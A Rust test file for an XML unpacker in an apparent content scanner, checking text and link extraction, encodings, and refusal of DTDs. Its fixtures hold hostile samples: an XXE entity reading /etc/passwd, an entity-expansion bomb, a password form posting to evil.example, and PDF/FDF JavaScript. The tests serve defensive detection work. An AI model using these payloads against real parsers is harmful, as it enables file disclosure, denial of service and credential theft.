//! XML of files of their own: text, addresses, and what is refused.

use bytes::Bytes;
use expect_test::{Expect, expect};
use scan::content::Content;

use super::{Doctype, doctype};
use crate::budget::{Budget, Limits};
use crate::request::{Part, Request};
use crate::unpack::unpack;

fn open(bytes: &[u8], name: &str) -> Content {
    let part = Part {
        place: "1".to_owned(),
        names: vec![name.to_owned()],
        bytes: Bytes::copy_from_slice(bytes),
        ..Part::default()
    };
    unpack(&Request { parts: vec![part], ..Request::default() }, &mut Budget::new(Limits::default()))
}

fn check(bytes: &[u8], name: &str, expected: &Expect) {
    let content = open(bytes, name);
    let item = &content.items[0];
    let links: Vec<&str> = item.links.iter().map(|link| link.target.as_str()).collect();
    let unopened: Vec<&str> = content.unopened.iter().map(|one| one.why.word()).collect();
    let lines: Vec<&str> = item.text.lines().map(str::trim).filter(|line| !line.is_empty()).collect();
    expected.assert_eq(&format!("{:?} {links:?} {:?} {unopened:?}", lines, item.marks));
}

#[test]
fn text_and_addresses_are_found() {
    let kml =
        br#"<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><name>A &amp; B &#x41;</name>
        <description>see http://one.example/x</description><Link href="https://two.example/y"/></Placemark></kml>"#;
    check(
        kml,
        "map.kml",
        &expect![[
            r#"["A & B A", "see http://one.example/x"] ["https://two.example/y", "http://one.example/x"] [] []"#
        ]],
    );
}

#[test]
fn every_encoding_is_read() {
    let xml = "<?xml version=\"1.0\" encoding=\"utf-16\"?><a>Grüße</a>";
    let wide: Vec<u8> = xml.encode_utf16().flat_map(u16::to_le_bytes).collect();
    check(&wide, "a.xml", &expect![[r#"["Grüße"] [] [] []"#]]);
    check(b"<?xml version='1.0' encoding='iso-8859-15'?><a>\xa4</a>", "a.xml", &expect![[r#"["€"] [] [] []"#]]);
}

#[test]
fn a_definition_is_refused_and_not_expanded() {
    let bomb = br#"<!DOCTYPE l [<!ENTITY a "lolol"><!ENTITY b "&a;&a;"><!ENTITY x SYSTEM "file:///etc/passwd">]><l>[&b;&x;]</l>"#;
    check(bomb, "report.xml", &expect![[r#"["[]"] [] ["dtd"] ["refused"]"#]]);
    let wide: Vec<u8> = String::from_utf8_lossy(bomb).encode_utf16().flat_map(u16::to_be_bytes).collect();
    check(&wide, "report.xml", &expect![[r#"["[]"] [] ["dtd"] ["refused"]"#]]);
}

#[test]
fn what_a_viewer_loads_is_a_link() {
    let xml = br#"<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?><a>t</a>"#;
    check(xml, "a.xml", &expect![[r#"["t"] ["http://evil.example/x.xsl"] [] []"#]]);
}

#[test]
fn well_known_definitions_are_none_of_its_own() {
    for (head, expected) in [
        ("<a/>", Doctype::None),
        ("<!-- <!DOCTYPE a [] --><a/>", Doctype::None),
        ("<!DOCTYPE html><html/>", Doctype::Known),
        (
            "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\"><svg/>",
            Doctype::Known,
        ),
        ("<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://evil.example/svg11.dtd\"><svg/>", Doctype::Own),
        (
            "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/svg11.dtd\" [<!ENTITY a '&b;'>]><svg/>",
            Doctype::Own,
        ),
        ("<?xml version='1.0'?>\n<!-- x --><!doctype a SYSTEM 'http://evil.example/a'><a/>", Doctype::Own),
        ("<!DOCTYPE a SYSTEM 'x\">' [<!ENTITY a 'b'>]><a/>", Doctype::Own),
    ] {
        assert_eq!(doctype::find(head), expected, "{head}");
    }
}

#[test]
fn a_definition_in_another_place_counts_as_well() {
    check(
        b"<?xml version='1.0'?><a>x<!DOCTYPE a [<!ENTITY b 'c'>]>&b;</a>",
        "a.xml",
        &expect![[r#"["x"] [] ["dtd"] ["refused"]"#]],
    );
}

#[test]
fn deep_nesting_ends() {
    let deep = format!("<?xml version='1.0'?>{}", "<a>".repeat(200_000));
    check(deep.as_bytes(), "a.xml", &expect![[r#"[] [] [] ["over_budget"]"#]]);
}

#[test]
fn names_of_vocabularies_are_replaced_and_nothing_else() {
    let drawing = |subset: &str, body: &str| {
        format!(
            "<?xml version=\"1.0\"?><!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\" [{subset}]><svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:x=\"&ns_x;\">{body}</svg>"
        )
    };
    let known = drawing(
        "\n\t<!ENTITY ns_x \"http://ns.adobe.com/x/\">\n\t<!ENTITY u 'https://evil.example'>\n",
        "<a href=\"&u;/login\">x</a>",
    );
    check(known.as_bytes(), "a.svg", &expect![[r#"["x"] ["https://evil.example/login"] [] []"#]]);
    for own in
        ["<!ENTITY a \"&b;\">", "<!ENTITY % a \"b\">", "<!ENTITY a SYSTEM \"file:///x\">", "<!ELEMENT a ANY>", "%a;"]
    {
        assert_eq!(open(drawing(own, "").as_bytes(), "a.svg").items[0].marks, ["dtd"], "{own}");
    }
    let many = drawing("<!ENTITY a \"b\">", &"&a;".repeat(20_000));
    assert_eq!(open(many.as_bytes(), "a.svg").items[0].marks, ["dtd"]);
}

#[test]
fn pages_in_xml_are_seen_under_any_prefix() {
    let xml = br#"<r xmlns:x="http://www.w3.org/1999/xhtml"><x:form action="https://evil.example/in"><x:input type="password"/></x:form><x:script>1</x:script></r>"#;
    let content = open(xml, "invoice.xml");
    for mark in ["form", "password_field", "script"] {
        assert!(content.items[0].marks.iter().any(|own| own == mark), "{mark} {:?}", content.items[0]);
    }
}

#[test]
fn a_document_in_a_data_package() {
    let pdf = "JVBERi0xLjcKMSAwIG9iago8PC9UeXBlL0NhdGFsb2cvT3BlbkFjdGlvbjw8L1MvSmF2YVNjcmlwdC9KUyhhcHAuYWxlcnQoMSkpPj4+PgplbmRvYmoKeHJl\
        ZgowIDIKMDAwMDAwMDAwMCA2NTUzNSBmIAowMDAwMDAwMDA5IDAwMDAwIG4gCnRyYWlsZXIKPDwvU2l6ZSAyIC9Sb290IDEgMCBSPj4Kc3RhcnR4cmVmCjg3CiUlRU9GCg==";
    let xdp = format!(
        "<?xml version='1.0'?><xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><pdf><document><chunk>\n{pdf}\n</chunk></document></pdf></xdp:xdp>"
    );
    let found = crate::formats::shown::shown("form.xdp", xdp.as_bytes());
    assert!(found.contains("1/xdp:0 pdf") && found.contains("javascript"), "{found}");
    let broken = "<?xml version='1.0'?><xdp:xdp><chunk>!</chunk></xdp:xdp>";
    assert!(crate::formats::shown::shown("form.xdp", broken.as_bytes()).contains("unopened 1 broken"));
}

#[test]
fn data_of_forms() {
    let xfdf =
        "<?xml version='1.0'?><xfdf xmlns='http://ns.adobe.com/xfdf/'><f href='http://evil.example/x.pdf'/></xfdf>";
    let found = crate::formats::shown::shown("a.xfdf", xfdf.as_bytes());
    assert!(found.contains("external_link") && found.contains("http://evil.example/x.pdf"), "{found}");
    let fdf = b"%FDF-1.2\n1 0 obj\n<</FDF<</JavaScript<</Before(app.alert(1))/Doc[(a)(app.beep\\(\\))]>>/F(\\\\\\\\evil.example\\\\x.pdf)>>>>\nendobj\n\
        trailer\n<</Root 1 0 R>>\n%%EOF\n";
    let found = crate::formats::shown::shown("a.bin", fdf);
    for word in ["1 fdf", "javascript", "remote_goto", "external_link", "Fetched:", "app.alert(1)", "app.beep()"] {
        assert!(found.contains(word), "{word}: {found}");
    }
}
